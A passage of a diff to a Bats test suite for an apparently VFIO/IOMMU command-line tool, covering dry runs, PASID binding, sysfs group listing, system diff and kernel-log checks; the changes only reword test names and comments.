 	[[ $(ctl context show test -j; hardware "$WIDE") == "$before" ]]
 }
 
-@test "a dry run prints each ioctl and does none; then the command does it" {
+@test "a dry run prints each ioctl and does none; then the command does them" {
 	local node
 
 	status 0 ctl context create test --dry-run
@@ -1301,7 +1306,7 @@ ioctl VFIO_DEVICE_ATTACH_IOMMUFD_PT $WIDE pasid 100-163 hwpt NEW" pasid bind "$W
 	[[ -z $(hardware "$WIDE") ]]
 }
 
-@test "a dry run of what is refused says what the command would" {
+@test "a dry run of a refused command prints the same message" {
 	local args said
 
 	context
@@ -1319,7 +1324,7 @@ ioctl VFIO_DEVICE_ATTACH_IOMMUFD_PT $WIDE pasid 100-163 hwpt NEW" pasid bind "$W
 	[[ $(hardware "$WIDE") == 7 ]]
 }
 
-@test "groups, their members and units are those of sysfs" {
+@test "groups, their members and units are those in sysfs" {
 	local group
 
 	[[ $(ctl group list -nr -o group) == "$(ls -v /sys/kernel/iommu_groups)" ]]
@@ -1341,25 +1346,26 @@ ioctl VFIO_DEVICE_ATTACH_IOMMUFD_PT $WIDE pasid 100-163 hwpt NEW" pasid bind "$W
 	status 3 ctl system features "$NIC"
 	says "$NIC: the device has no VFIO driver"
 	says "hint: ioasidctl driver set $NIC vfio-pci"
-	# The probe has left nothing.
+	# The probe has left nothing behind.
 	context
 	[[ -z $(hardware "$WIDE") ]]
 }
 
-# has_changed LINE...: exactly that since, one change a line. The devices that VFIO lets sleep are woken.
+# has_changed LINE...: exactly these changes since the capture, one per line. Wakes the devices that
+# VFIO lets sleep.
 has_changed()
 {
 	diff <(printf '%s\n' "$@") <(ctl system diff "$BATS_TEST_TMPDIR/before" --wake -nr \
 		-o change,kind,object,pasid,field,old,new || echo "status $?")
 }
 
-@test "system diff names what has changed since a capture, and nothing else" {
+@test "system diff shows what has changed since a capture, and nothing else" {
 	local pid device
 
 	context
 	ctl pasid bind "$WIDE" 42,43 first
 	pid=$(holder_pid test)
-	# A capture wakes no device.
+	# A capture does not wake devices.
 	for device in "$WIDE" "$NARROW" "$PLAIN" "$EDU"; do
 		echo on >/sys/bus/pci/devices/"$device"/power/control
 	done
@@ -1381,7 +1387,7 @@ has_changed()
 	done
 }
 
-@test "the kernel has nothing to complain about" {
+@test "the kernel has logged no warning" {
 	log=$(dmesg)
 	[[ -n $log && -z $(grep -E 'BUG:|WARNING:|Oops|general protection|refcount' <<<"$log") ]]
 }
@@ -1390,7 +1396,7 @@ has_changed()
 	explains_real_faults dmar write read
 }
 
-@test "system explain: a holder that does not answer hides no other's PASIDs" {
+@test "system explain: a holder that does not answer does not hide others' PASIDs" {
 	local deaf row
 
 	context
@@ -1419,7 +1425,7 @@ has_changed()
 		"PASID 100-103\\nioas $second, context test" "pid $(holder_pid test)\\nioasid:test"; do
 		[[ $output == *"[label=\"$label"* ]] || { printf 'no %s in: %s\n' "$label" "$output"; return 1; }
 	done
-	# The device's own requests; the process once, and a line from each of the two to it.
+	# The device's own requests; the process once, with a line to it from each of the two.
 	[[ $(grep -c 'label="pid ' <<<"$output") == 1 ]]
 	[[ $(grep -c '^.n[0-9]* -> n[0-9]*;$' <<<"$output") == 5 ]]
 	status 0 ctl system graph "$WIDE" --format svg
